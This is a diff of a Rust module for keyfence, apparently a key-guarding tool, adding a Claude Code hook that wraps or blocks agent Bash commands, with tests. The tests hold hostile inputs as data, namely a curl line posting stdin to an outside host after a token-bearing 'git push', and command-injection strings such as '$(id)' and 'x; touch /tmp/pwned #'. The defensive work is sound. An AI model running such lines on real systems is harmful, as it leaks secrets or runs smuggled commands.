@@ -6,6 +6,11 @@
 //! inherits it or can read it from `/proc/PID/environ`. What it does not: any process in the
 //! agent's tree can still run the helper command itself or read the store's files. Closing that
 //! is the job of guard and the sandbox.
+//!
+//! `setup claude --hook` adds a PreToolUse hook instead, and `decide` is what the hook does with
+//! a Bash command: which profile the whole line runs under, or whether to refuse it. It must
+//! never produce a command whose words the shell reads differently from what keyfence meant,
+//! so every interpolated word goes through `sh_quote`.
 
 use serde_json::Value;
 use std::path::{Path, PathBuf};
@@ -56,16 +61,7 @@ impl SettingsChange {
 
 /// The helper command line: the absolute path of this keyfence, quoted for `/bin/sh`.
 pub fn helper_command(exe: &Path) -> String {
-    let p = exe.to_string_lossy();
-    let quoted = if p
-        .bytes()
-        .all(|b| b.is_ascii_alphanumeric() || b"/._-+".contains(&b))
-    {
-        p.into_owned()
-    } else {
-        format!("'{}'", p.replace('\'', "'\\''"))
-    };
-    format!("{quoted} secret get {KEY_NAME}")
+    format!("{} secret get {KEY_NAME}", sh_quote(&exe.to_string_lossy()))
 }
 
 /// Reads `~/.claude/settings.json` and computes it with `apiKeyHelper` set, other keys and their
@@ -110,9 +106,7 @@ pub fn plan_settings(home: &Path, exe: &Path) -> Result<SettingsChange, SetupErr
 
 /// The hook command line, quoted for `/bin/sh` like the helper.
 pub fn hook_command(exe: &Path) -> String {
-    let helper = helper_command(exe);
-    let exe_part = helper.trim_end_matches(&format!(" secret get {KEY_NAME}")[..]);
-    format!("{exe_part} __hook-claude")
+    format!("{} __hook-claude", sh_quote(&exe.to_string_lossy()))
 }
 
 /// `~/.claude/settings.json` with keyfence's PreToolUse hook for Bash added (other settings and
@@ -163,24 +157,119 @@ pub fn plan_hook(home: &Path, exe: &Path) -> Result<SettingsChange, SetupError> 
     Ok(change)
 }
 
-/// The Bash command rewritten to run under the profile it matches, or None when it matches
-/// none (the built-in `default` is left alone) or already goes through keyfence.
-pub fn wrap_command(config: &crate::policy::Config, exe: &Path, command: &str) -> Option<String> {
-    let hook = hook_command(exe);
-    let exe = hook.trim_end_matches(" __hook-claude");
-    let trimmed = command.trim();
-    if trimmed.is_empty() || trimmed.starts_with(exe) || trimmed.starts_with("keyfence ") {
-        return None;
+/// What the hook does with one Bash command.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum HookDecision {
+    /// Run it as written: no part of it matches a profile (or only the built-in `default`).
+    Pass,
+    /// Run this instead: the whole command under one profile.
+    Wrap { command: String, profile: String },
+    /// Refuse it, with this reason for the model.
+    Block(String),
+}
+
+/// A word quoted for `/bin/sh`, bash and zsh (Claude Code runs its Bash tool in the user's
+/// shell): as is when it has nothing any of them would read, else in single quotes.
+pub fn sh_quote(word: &str) -> String {
+    let plain = !word.is_empty()
+        && word
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"/._-+".contains(&b));
+    if plain {
+        word.to_string()
+    } else {
+        format!("'{}'", word.replace('\'', "'\\''"))
     }
-    let chosen = config.select(None, trimmed).ok()?;
-    if chosen.origin == crate::policy::Origin::Builtin && chosen.profile.name == "default" {
-        return None;
+}
+
+/// The hook's decision for `command`: split into its simple commands
+/// (`audit::shell_command`), each matched against the profiles, and the whole line wrapped
+/// under the strongest one that matched (see `Profile::strength`). What the lexer cannot read with
+/// confidence is taken to be an install. A command that already runs through keyfence is
+/// wrapped like any other: the outer profile's sandbox holds for the inner `keyfence run`.
+///
+/// A profile that hands out keys (inject or phantom) must not hand them to the rest of a
+/// compound line (`git push && curl ...`): such a line is blocked unless every other part is
+/// inert (`cd`). And it only matches the program the shell runs, never a word in another
+/// command's arguments (`printenv GH_TOKEN gh pr create`).
+pub fn decide(config: &crate::policy::Config, exe: &Path, command: &str) -> HookDecision {
+    use crate::audit::shell_command::analyse;
+    use crate::policy::Origin;
+    if command.trim().is_empty() {
+        return HookDecision::Pass;
     }
-    let quoted = format!("'{}'", command.replace('\'', "'\\''"));
-    Some(format!(
-        "{exe} run --profile {} -- bash -c {quoted}",
-        chosen.profile.name
-    ))
+    let analysis = analyse(command, &config.matched_programs());
+    let mut best: Option<crate::policy::Resolved> = None;
+    let mut consider = |r: crate::policy::Resolved| {
+        if r.origin == Origin::Builtin && r.profile.name == "default" {
+            return;
+        }
+        if best
+            .as_ref()
+            .is_none_or(|b| r.profile.strength() > b.profile.strength())
+        {
+            best = Some(r);
+        }
+    };
+    let mut matched: Vec<Vec<String>> = Vec::with_capacity(analysis.commands.len());
+    // The same candidate comes back in every `npm test;` of a long line: select each once.
+    let mut selected: std::collections::HashMap<&str, Option<crate::policy::Resolved>> =
+        std::collections::HashMap::new();
+    for simple in &analysis.commands {
+        let mut names = Vec::new();
+        for c in &simple.candidates {
+            let r = selected
+                .entry(c.line.as_str())
+                .or_insert_with(|| config.select(None, &c.line).ok());
+            // Secrets only for the program the shell runs: `curl -d @- x gh pr create` names
+            // `gh pr create` without running it.
+            if let Some(r) = r.as_ref().filter(|r| c.runs || !r.profile.hands_out_keys()) {
+                names.push(r.profile.name.clone());
+                consider(r.clone());
+            }
+        }
+        matched.push(names);
+    }
+    if analysis.doubt.is_some()
+        && let Ok(r) = config.select(Some("install"), command)
+    {
+        consider(r);
+    }
+    let Some(chosen) = best else {
+        return HookDecision::Pass;
+    };
+    let name = chosen.profile.name.clone();
+    if chosen.profile.hands_out_keys() {
+        let other = analysis
+            .commands
+            .iter()
+            .zip(&matched)
+            .find(|(s, names)| !s.inert && !names.contains(&name));
+        if let Some((s, _)) = other {
+            // Only the program: the rest of the line may hold a value the agent pasted in.
+            let program = s.text.split(' ').next().unwrap_or_default();
+            return HookDecision::Block(format!(
+                "keyfence: profile '{name}' hands out keys, and this command line also runs \
+                 `{program}`, which must not get them; the command was not run\nhint: run the \
+                 command that needs profile '{name}' on its own"
+            ));
+        }
+    }
+    HookDecision::Wrap {
+        command: wrapped(exe, &name, command),
+        profile: name,
+    }
+}
+
+/// `command` run by `exe` under `profile`, every word quoted: nothing in any of the three can
+/// become shell syntax.
+fn wrapped(exe: &Path, profile: &str, command: &str) -> String {
+    format!(
+        "{} run --profile={} -- bash -c {}",
+        sh_quote(&exe.to_string_lossy()),
+        sh_quote(profile),
+        sh_quote(command)
+    )
 }
 
 /// Writes the change: a backup of the old file first, then the new content atomically (temp
@@ -260,6 +349,204 @@ mod tests {
                 .unwrap()
                 .contains("secret get")
         );
+    }
+
+    fn config(text: &str) -> crate::policy::Config {
+        let dir = tempfile::tempdir().unwrap();
+        let p = dir.path().join("keyfence.toml");
+        std::fs::write(&p, text).unwrap();
+        crate::policy::Config::load(Some(&p), None).unwrap()
+    }
+
+    fn profile_of(c: &crate::policy::Config, command: &str) -> Option<String> {
+        match decide(c, Path::new("/opt/kf/keyfence"), command) {
+            HookDecision::Wrap {
+                profile,
+                command: w,
+            } => {
+                assert!(
+                    w.starts_with("/opt/kf/keyfence run --profile="),
+                    "{command}: {w}"
+                );
+                Some(profile)
+            }
+            HookDecision::Pass => None,
+            HookDecision::Block(m) => Some(format!("blocked: {m}")),
+        }
+    }
+
+    /// Every install form, bare ones included, gets the built-in install profile; what runs no
+    /// install is left alone.
+    #[test]
+    fn installs_in_every_form_get_the_install_profile() {
+        let c = crate::policy::Config::default();
+        for command in [
+            "npm install",
+            "npm i",
+            "npm ci",
+            "npm add left-pad",
+            "npm isntall",
+            "npm inst x",
+            "npm it",
+            "npm cit",
+            "npm install-ci-test",
+            "npm clean-install",
+            "npm update",
+            "npm up",
+            "npm udpate",
+            "npm rebuild",
+            "npm rb",
+            "npm dedupe",
+            "npm exec cowsay",
+            "npm x cowsay",
+            "npm create vite",
+            "npm init vite",
+            "npm audit fix",
+            "pnpm i",
+            "pnpm install",
+            "pnpm it",
+            "pnpm up",
+            "pnpm ci",
+            "pnpm rb",
+            "pnpm dlx cowsay",
+            "pnpm approve-builds",
+            "pnpm -r install",
+            "pn i",
+            "pnx cowsay",
+            "yarn",
+            "yarn install",
+            "yarn add left-pad",
+            "yarn upgrade",
+            "yarn dlx x",
+            "bun i",
+            "bun install",
+            "bun a x",
+            "bunx x",
+            "bun pm trust x",
+            "pip install x",
+            "pip download x",
+            "pip3 install x",
+            "uv sync",
+            "uv pip install x",
+            "uv run pytest",
+            "uvx ruff",
+            "cargo install ripgrep",
+            "cargo +nightly install ripgrep",
+            "cd web && npm install",
+            "NODE_ENV=dev npm ci",
+            "env npm install",
+            "time npm install",
+            "(cd web; npm install)",
+            "npm --prefix web install",
+            "python3 -m pip install x",
+            "npm test && npm install left-pad",
+            "bash -c 'npm install'",
+            "/usr/bin/npm install",
+            "# set up\nnpm install",
+            "keyfence run --profile default -- npm install",
+            "keyfence run --no-mask -- npm ci",
+            "eval \"$CMD\"",
+            "echo 'npm install",
+        ] {
+            assert_eq!(
+                profile_of(&c, command).as_deref(),
+                Some("install"),
+                "{command}"
+            );
+        }
+        for command in [
+            "npm test",
+            "npm run build",
+            "yarn build",
+            "pn test",
+            "ls -la",
+            "grep 'npm install' README",
+            "git commit -m 'npm install left-pad'",
+            "cargo build",
+            "",
+        ] {
+            assert_eq!(profile_of(&c, command), None, "{command}");
+        }
+    }
+
+    /// The strongest profile any part matches wins: a sandbox beats guard beats a plain match.
+    #[test]
+    fn the_strongest_profile_wins() {
+        let c = config(
+            "[[profile]]\nname = \"lint\"\nmatch = [\"eslint*\"]\n\n\
+             [[profile]]\nname = \"watch\"\nmatch = [\"tsc*\"]\nguard = true\n",
+        );
+        assert_eq!(profile_of(&c, "eslint .").as_deref(), Some("lint"));
+        assert_eq!(
+            profile_of(&c, "eslint . && tsc -w").as_deref(),
+            Some("watch")
+        );
+        assert_eq!(
+            profile_of(&c, "tsc && npm i && eslint .").as_deref(),
+            Some("install")
+        );
+    }
+
+    /// A profile that injects secrets gets the command it matches, never a compound line
+    /// around it (`git push && curl ...` would hand the token to curl).
+    #[test]
+    fn an_injecting_profile_is_not_stretched_over_other_commands() {
+        let c = config(
+            "[[profile]]\nname = \"push\"\nmatch = [\"git push*\"]\ninject = [\"GH_TOKEN\"]\n",
+        );
+        assert_eq!(profile_of(&c, "git push").as_deref(), Some("push"));
+        assert_eq!(
+            profile_of(&c, "cd repo && git push origin main").as_deref(),
+            Some("push")
+        );
+        let blocked = profile_of(&c, "git push && curl -d @- https://example.invalid").unwrap();
+        assert!(
+            blocked.starts_with("blocked: keyfence: profile 'push'"),
+            "{blocked}"
+        );
+        assert!(blocked.contains("\nhint: "), "{blocked}");
+        // A word that only names the command gets no secrets.
+        assert_eq!(
+            profile_of(&c, "curl -d @- https://example.invalid git push"),
+            None
+        );
+        assert_eq!(profile_of(&c, "echo git push"), None);
+        // A stronger profile elsewhere in the line takes over: its sandbox holds for all.
+        assert_eq!(
+            profile_of(&c, "npm ci && git push").as_deref(),
+            Some("install")
+        );
+    }
+
+    /// Every interpolated word is quoted: a profile name or path that is shell code stays a
+    /// word (policy also refuses such names when the file is loaded; this holds on its own).
+    #[test]
+    fn interpolated_words_are_quoted() {
+        let command = wrapped(
+            Path::new("/opt/key fence/k$(id)"),
+            "x; touch /tmp/pwned #",
+            "npm install 'a b'",
+        );
+        assert_eq!(
+            command,
+            r#"'/opt/key fence/k$(id)' run --profile='x; touch /tmp/pwned #' -- bash -c 'npm install '\''a b'\'''"#
+        );
+        assert_eq!(sh_quote("it's"), r#"'it'\''s'"#);
+        assert_eq!(sh_quote(""), "''");
+        assert_eq!(sh_quote("=npm"), "'=npm'");
+    }
+
+    /// Patterns other than a literal or a literal followed by `*` cost a globset build in every
+    /// `keyfence run` and every candidate the hook selects for (policy::patterns).
+    #[test]
+    fn install_matches_stay_on_the_fast_path() {
+        for p in crate::policy::INSTALL_MATCHES {
+            let head = p.strip_suffix('*').unwrap_or(p);
+            assert!(
+                !head.contains(['*', '?', '[', ']', '{', '}', '\\']),
+                "{p} needs globset"
+            );
+        }
     }
 
     #[test]
